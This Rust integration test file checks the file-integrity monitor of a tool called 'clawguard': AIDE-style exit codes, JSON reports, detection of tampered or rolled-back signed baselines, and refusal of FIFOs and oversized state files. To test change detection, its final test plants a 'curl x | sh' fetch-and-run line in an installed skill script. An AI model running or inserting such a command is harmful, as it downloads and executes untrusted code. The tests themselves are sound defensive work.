//! `clawguard fim …` as a user runs it: AIDE exit codes, the JSON document,
//! refused baselines, accept, the `[fim]` policy, and an unprivileged scan of
//! unreadable files.

use std::os::unix::fs::PermissionsExt;
mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::{BIN, clawguard_command, output_within, stderr, stdout_json};

struct Env {
    dir: tempfile::TempDir,
    tree: PathBuf,
    config: PathBuf,
}

fn env(fim_section: &str) -> Env {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    std::fs::create_dir_all(tree.join("etc")).unwrap();
    std::fs::write(tree.join("etc/passwd"), b"root:x:0:0:root:/root:/bin/sh\n").unwrap();
    std::fs::write(tree.join("etc/shadow"), b"root:*:19000:0:99999:7:::\n").unwrap();
    let config = dir.path().join("clawguard.toml");
    std::fs::write(
        &config,
        format!(
            "version = 1\n[fail2ban]\ndir = \"{}\"\n[fim]\nsigning_key = \"{}\"\n{fim_section}",
            dir.path().join("no-fail2ban").display(),
            dir.path().join("keys/fim.key").display()
        ),
    )
    .unwrap();
    Env { dir, tree, config }
}

fn run(env: &Env, args: &[&str]) -> Output {
    command(env).args(args).output().expect("run clawguard")
}

/// The binary with the test's config and state directory.
fn command(env: &Env) -> Command {
    let mut command = clawguard_command(env.dir.path());
    command.arg("--config").arg(&env.config);
    command
}

fn code(out: &Output) -> i32 {
    out.status.code().unwrap_or(-1)
}

fn tree_arg(env: &Env) -> String {
    env.tree.display().to_string()
}

#[test]
fn aide_exit_codes_and_the_json_document() {
    let e = env("");
    let tree = tree_arg(&e);
    // Without s/m/c the directories stay unchanged when entries come and go.
    let rule = ["--rule", "p+u+g+hash"];
    let out = run(&e, &[&["fim", "init"], &rule[..], &[&tree]].concat());
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        code(&run(&e, &[&["fim", "check"], &rule[..], &[&tree]].concat())),
        0
    );

    std::fs::write(e.tree.join("etc/new"), b"x").unwrap();
    assert_eq!(
        code(&run(&e, &[&["fim", "check"], &rule[..], &[&tree]].concat())),
        1
    );
    std::fs::remove_file(e.tree.join("etc/shadow")).unwrap();
    assert_eq!(
        code(&run(&e, &[&["fim", "check"], &rule[..], &[&tree]].concat())),
        3
    );
    std::fs::write(e.tree.join("etc/passwd"), b"root:x:0:0::/root:/bin/bash\n").unwrap();
    let out = run(
        &e,
        &[&["fim", "check", "--json"], &rule[..], &[&tree]].concat(),
    );
    assert_eq!(code(&out), 7);
    let doc = stdout_json(&out);
    let passwd = e.tree.join("etc/passwd").display().to_string();
    assert_eq!(
        doc["added"],
        serde_json::json!([e.tree.join("etc/new").display().to_string()])
    );
    assert_eq!(
        doc["removed"],
        serde_json::json!([e.tree.join("etc/shadow").display().to_string()])
    );
    assert_eq!(
        doc["changed"],
        serde_json::json!([{"path": passwd, "changes": ["blake3"]}])
    );
    assert_eq!(doc["summary"]["added"], 1);
    assert_eq!(doc["summary"]["removed"], 1);
    assert_eq!(doc["summary"]["changed"], 1);
    assert_eq!(doc["baseline"]["digest"].as_str().unwrap().len(), 64);
    assert_eq!(doc["report_digest"].as_str().unwrap().len(), 64);
    assert_eq!(doc["previous_report_digest"].as_str().unwrap().len(), 64);

    // Human text: grouped, with the attributes.
    let out = run(&e, &[&["fim", "check"], &rule[..], &[&tree]].concat());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("Added (1):") && text.contains("Removed (1):"),
        "{text}"
    );
    assert!(text.contains(&format!("~ {passwd}: blake3")), "{text}");

    // update takes it all in: the next check is clean.
    assert_eq!(
        code(&run(
            &e,
            &[&["fim", "update"], &rule[..], &[&tree]].concat()
        )),
        7
    );
    assert_eq!(
        code(&run(&e, &[&["fim", "check"], &rule[..], &[&tree]].concat())),
        0
    );
}

#[test]
fn refused_baselines_exit_8_and_9_and_a_missing_one_10() {
    let e = env("");
    let tree = tree_arg(&e);
    assert_eq!(code(&run(&e, &["fim", "check", &tree])), 10);
    assert_eq!(code(&run(&e, &["fim", "init", &tree])), 0);
    let baseline = e.dir.path().join("state/fim/baseline.cgfim");
    let good = std::fs::read(&baseline).unwrap();

    let mut bad = good.clone();
    let at = bad.len() / 2;
    bad[at] ^= 0x40;
    std::fs::write(&baseline, &bad).unwrap();
    let out = run(&e, &["fim", "check", "--json", &tree]);
    assert_eq!(code(&out), 8);
    assert_eq!(stdout_json(&out)["exit_code"], 8);
    assert!(String::from_utf8_lossy(&out.stderr).contains("BASELINE REJECTED"));

    // A validly signed older baseline (rolled back after an update).
    std::fs::write(&baseline, &good).unwrap();
    std::fs::write(e.tree.join("etc/passwd"), b"changed\n").unwrap();
    assert_eq!(code(&run(&e, &["fim", "update", &tree])) & 8, 0);
    std::fs::write(&baseline, &good).unwrap();
    let out = run(&e, &["fim", "check", &tree]);
    assert_eq!(code(&out), 9, "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("BASELINE REPLACED"));
}

#[test]
fn accept_takes_in_one_change_only() {
    let e = env("");
    let tree = tree_arg(&e);
    assert_eq!(
        code(&run(&e, &["fim", "init", "--rule", "p+u+g+s+hash", &tree])),
        0
    );
    std::fs::write(e.tree.join("etc/passwd"), b"one\n").unwrap();
    std::fs::write(e.tree.join("etc/shadow"), b"two\n").unwrap();
    let passwd = e.tree.join("etc/passwd").display().to_string();
    let out = run(
        &e,
        &[
            "fim",
            "accept",
            "--rule",
            "p+u+g+s+hash",
            "--watch",
            &tree,
            &passwd,
        ],
    );
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let out = run(
        &e,
        &["fim", "check", "--json", "--rule", "p+u+g+s+hash", &tree],
    );
    assert_eq!(code(&out), 4);
    let changed = stdout_json(&out)["changed"].clone();
    assert_eq!(changed.as_array().unwrap().len(), 1, "{changed}");
    assert!(
        changed[0]["path"]
            .as_str()
            .unwrap()
            .ends_with("/etc/shadow")
    );
}

#[test]
fn the_config_policy_and_its_errors() {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    let e = env(&format!(
        "hash = \"sha256\"\nexclude = [\"**/*.log\"]\n[[fim.watch]]\npath = \"{}\"\nrule = \"R\"\n",
        tree.display()
    ));
    std::fs::create_dir_all(&tree).unwrap();
    std::fs::write(tree.join("sshd_config"), b"PermitRootLogin no\n").unwrap();
    std::fs::write(tree.join("noise.log"), b"1\n").unwrap();
    let out = run(&e, &["fim", "init", "--json"]);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let doc = stdout_json(&out);
    assert_eq!(doc["baseline"]["hash"], "sha256");
    assert_eq!(
        doc["entries"], 2,
        "the tree and sshd_config; the log is excluded"
    );
    std::fs::write(tree.join("noise.log"), b"2\n").unwrap();
    assert_eq!(code(&run(&e, &["fim", "check"])), 0);
    std::fs::write(tree.join("sshd_config"), b"PermitRootLogin yes\n").unwrap();
    let out = run(&e, &["fim", "check", "--json"]);
    assert_eq!(code(&out), 4);
    let changes = stdout_json(&out)["changed"][0]["changes"].clone();
    assert!(
        changes.as_array().unwrap().iter().any(|c| c == "sha256"),
        "{changes}"
    );

    // A bad rule is a config error naming the key; under `fim` it exits 11,
    // since 2 is AIDE's "removed" bit. So does a command-line error.
    let bad = env("[[fim.watch]]\npath = \"/etc\"\nrule = \"R+bogus\"\n");
    let out = run(&bad, &["fim", "check"]);
    assert_eq!(code(&out), 11);
    assert_eq!(code(&run(&e, &["fim", "check", "--no-such-flag"])), 11);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("fim.watch[0].rule") && err.contains("bogus"),
        "{err}"
    );
}

#[test]
fn help_documents_the_exit_codes() {
    let e = env("");
    let out = run(&e, &["fim", "check", "--help"]);
    let text = String::from_utf8_lossy(&out.stdout);
    for needle in [
        "1   entries added",
        "8   BASELINE REJECTED",
        "9   BASELINE REPLACED",
        "14  NO FRESHNESS RECORD",
    ] {
        assert!(text.contains(needle), "{needle} missing from:\n{text}");
    }
    // The top-level help lists every code too.
    let out = run(&e, &["--help"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("14 no freshness"), "{text}");
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn unreadable_files_and_dirs_are_reported_as_an_unprivileged_user() {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipping: needs root to set up files another user cannot read");
        return;
    }
    let Ok(setpriv) = which("setpriv") else {
        eprintln!("skipping: setpriv (util-linux) is not installed");
        return;
    };
    let e = env("");
    chmod(e.dir.path(), 0o755);
    let bin = PathBuf::from(BIN);
    // nobody must be able to reach the binary.
    let probe = Command::new(&setpriv)
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&bin)
        .arg("--version")
        .output()
        .unwrap();
    if !probe.status.success() {
        eprintln!("skipping: user nobody cannot run {}", bin.display());
        return;
    }
    let state = e.dir.path().join("state");
    let keys = e.dir.path().join("keys");
    for dir in [&state, &keys] {
        std::fs::create_dir_all(dir).unwrap();
        std::os::unix::fs::chown(dir, Some(65534), Some(65534)).unwrap();
    }
    chmod(&e.tree, 0o755);
    chmod(&e.tree.join("etc"), 0o755);
    chmod(&e.tree.join("etc/shadow"), 0o000);
    std::fs::create_dir(e.tree.join("secret")).unwrap();
    std::fs::write(e.tree.join("secret/inside"), b"x").unwrap();
    chmod(&e.tree.join("secret"), 0o700);
    let as_nobody = |verb: &str| {
        Command::new(&setpriv)
            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(&bin)
            .arg("--config")
            .arg(&e.config)
            .arg("--state-dir")
            .arg(&state)
            .args(["fim", verb, "--json", "--signing-key"])
            .arg(keys.join("fim.key"))
            .arg(&e.tree)
            .env_remove("CLAWGUARD_STATE_DIR")
            .output()
            .unwrap()
    };
    let out = as_nobody("init");
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    let problems = stdout_json(&out)["problems"].to_string();
    assert!(
        problems.contains("etc/shadow") && problems.contains("content not hashed"),
        "{problems}"
    );
    assert!(
        problems.contains("/secret") && problems.contains("not entered"),
        "{problems}"
    );
    // The unreadable file is still recorded (metadata), so check is clean.
    let out = as_nobody("check");
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stdout));
    assert_eq!(stdout_json(&out)["summary"]["problems"], 2);
}

fn which(name: &str) -> Result<PathBuf, ()> {
    std::env::var_os("PATH")
        .iter()
        .flat_map(std::env::split_paths)
        .map(|d| d.join(name))
        .find(|p| p.is_file())
        .ok_or(())
}

/// Runs clawguard, killing it after `limit`: a read that blocks must fail
/// the test, not hang it.
fn run_bounded(env: &Env, args: &[&str], limit: std::time::Duration) -> Output {
    output_within(command(env).args(args), limit)
}

/// An older signed baseline, copied back after an `update`.
fn rolled_back(e: &Env, tree: &str) -> PathBuf {
    assert_eq!(code(&run(e, &["fim", "init", tree])), 0);
    let baseline = e.dir.path().join("state/fim/baseline.cgfim");
    let old = std::fs::read(&baseline).unwrap();
    std::fs::write(e.tree.join("etc/passwd"), b"changed\n").unwrap();
    assert_eq!(code(&run(e, &["fim", "update", tree])) & 8, 0);
    assert_eq!(code(&run(e, &["fim", "check", tree])), 0);
    std::fs::write(&baseline, &old).unwrap();
    baseline
}

#[test]
fn rollback_with_the_freshness_record_deleted_is_refused_with_its_own_code() {
    let e = env("");
    let tree = tree_arg(&e);
    rolled_back(&e, &tree);
    // Pin the key in the config too, as the issue's report did.
    let public = std::fs::read_to_string(e.dir.path().join("state/fim/baseline.pub")).unwrap();
    let config = std::fs::read_to_string(&e.config).unwrap();
    std::fs::write(
        &e.config,
        format!("{config}public_key = \"{}\"\n", public.trim()),
    )
    .unwrap();
    let digest = e.dir.path().join("state/fim/baseline.digest");
    std::fs::remove_file(&digest).unwrap();
    let out = run(&e, &["fim", "check", "--json", &tree]);
    assert_eq!(code(&out), 14, "{}", stderr(&out));
    assert_eq!(stdout_json(&out)["exit_code"], 14);
    assert!(stderr(&out).contains("baseline.digest"), "{}", stderr(&out));
    // update and accept refuse too: they would launder the old baseline.
    assert_eq!(code(&run(&e, &["fim", "update", &tree])), 14);
}

#[test]
fn a_rewritten_freshness_record_is_caught_by_the_generation_in_the_report_chain() {
    let e = env("");
    let tree = tree_arg(&e);
    let baseline = e.dir.path().join("state/fim/baseline.cgfim");
    let digest = e.dir.path().join("state/fim/baseline.digest");
    assert_eq!(code(&run(&e, &["fim", "init", &tree])), 0);
    let old = std::fs::read(&baseline).unwrap();
    let old_digest = std::fs::read(&digest).unwrap();
    std::fs::write(e.tree.join("etc/passwd"), b"changed\n").unwrap();
    assert_eq!(code(&run(&e, &["fim", "update", &tree])) & 8, 0);
    // The attacker restores both the old baseline and its digest record.
    std::fs::write(&baseline, &old).unwrap();
    std::fs::write(&digest, &old_digest).unwrap();
    let out = run(&e, &["fim", "check", &tree]);
    assert_eq!(code(&out), 9, "{}", stderr(&out));
    assert!(stderr(&out).contains("generation"), "{}", stderr(&out));
    // Deleting the chain instead of keeping it refuses too.
    let chain = e.dir.path().join("state/fim/report.chain");
    let kept = std::fs::read(&chain).unwrap();
    std::fs::remove_file(&chain).unwrap();
    let out = run(&e, &["fim", "check", &tree]);
    assert_eq!(code(&out), 14, "{}", stderr(&out));
    assert!(stderr(&out).contains("report.chain"), "{}", stderr(&out));
    std::fs::write(&chain, kept).unwrap();
    // Deleting the record as well still refuses (exit 14, not a plain diff).
    std::fs::remove_file(&digest).unwrap();
    assert_eq!(code(&run(&e, &["fim", "check", &tree])), 14);
}

fn mkfifo(path: &Path) {
    let _ = std::fs::remove_file(path);
    nix::unistd::mkfifo(path, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
}

#[test]
fn fifos_where_fim_reads_its_files_are_refused_without_hanging() {
    let limit = std::time::Duration::from_secs(20);
    let state = |e: &Env, name: &str| e.dir.path().join("state/fim").join(name);
    for (name, verb) in [
        ("baseline.cgfim", "check"),
        ("baseline.digest", "check"),
        ("baseline.pub", "check"),
        ("report.chain", "check"),
        ("signing key", "update"),
    ] {
        let e = env("");
        let tree = tree_arg(&e);
        assert_eq!(code(&run(&e, &["fim", "init", &tree])), 0);
        let path = if name == "signing key" {
            e.dir.path().join("keys/fim.key")
        } else {
            state(&e, name)
        };
        if name == "report.chain" {
            assert_eq!(code(&run(&e, &["fim", "check", &tree])), 0);
        }
        mkfifo(&path);
        let out = run_bounded(&e, &["fim", verb, &tree], limit);
        let err = stderr(&out);
        assert!(code(&out) >= 8, "{name}: exit {} {err}", code(&out));
        assert!(err.contains("not a regular file"), "{name}: {err}");
    }
}

#[test]
fn oversized_state_files_are_refused_by_their_bound() {
    let e = env("");
    let tree = tree_arg(&e);
    assert_eq!(code(&run(&e, &["fim", "init", &tree])), 0);
    // Sparse: 8 GiB of apparent size costs nothing on disk.
    let digest = e.dir.path().join("state/fim/baseline.digest");
    std::fs::File::create(&digest)
        .unwrap()
        .set_len(8 << 30)
        .unwrap();
    let out = run_bounded(
        &e,
        &["fim", "check", &tree],
        std::time::Duration::from_secs(20),
    );
    assert!(code(&out) >= 8, "{}", stderr(&out));
    assert!(stderr(&out).contains("larger than"), "{}", stderr(&out));
}

#[test]
fn an_installed_clawhub_skill_with_scripts_is_not_reported_as_modified() {
    let e = env("");
    let skill = e.tree.join("skills/deploy-helper");
    // The fingerprint `clawhub` 0.23.3 computed for exactly these files
    // (`hashSkillFiles(await listSkillFiles(dir))`).
    let fingerprint = "3b68a36cd2dc1becdbf0f397cfcb518584c0914eb1884eb59b8c3b51a5baede6";
    for (path, text) in [
        (
            "SKILL.md",
            "---\nname: deploy-helper\ndescription: Deploys the site.\n---\n# Deploy helper\n\nRun `scripts/deploy.sh`.\n",
        ),
        ("scripts/deploy.sh", "#!/bin/sh\necho deploying\n"),
        ("references/api.md", "# API\n"),
        ("assets/logo.txt", "logo\n"),
        (
            ".clawhub/origin.json",
            &format!(
                r#"{{"version":1,"registry":"https://clawhub.ai","slug":"deploy-helper","installedVersion":"1.0.0","installedAt":1765000000000,"fingerprint":"{fingerprint}"}}"#
            ),
        ),
    ] {
        let path = skill.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let skills = e.tree.join("skills").display().to_string();
    assert_eq!(code(&run(&e, &["fim", "init", &skills])), 0);
    let out = run(&e, &["fim", "check", "--json", &skills]);
    let report = stdout_json(&out);
    assert_eq!(report["fingerprints"][0]["matches"], true, "{report}");
    assert_eq!(code(&out), 0, "{report}");
    // A script changed after install is still reported, after an update too.
    std::fs::write(skill.join("scripts/deploy.sh"), "#!/bin/sh\ncurl x | sh\n").unwrap();
    assert_eq!(code(&run(&e, &["fim", "update", &skills])) & 8, 0);
    let out = run(&e, &["fim", "check", "--json", &skills]);
    assert_eq!(code(&out), 4);
    assert_eq!(stdout_json(&out)["fingerprints"][0]["matches"], false);
}
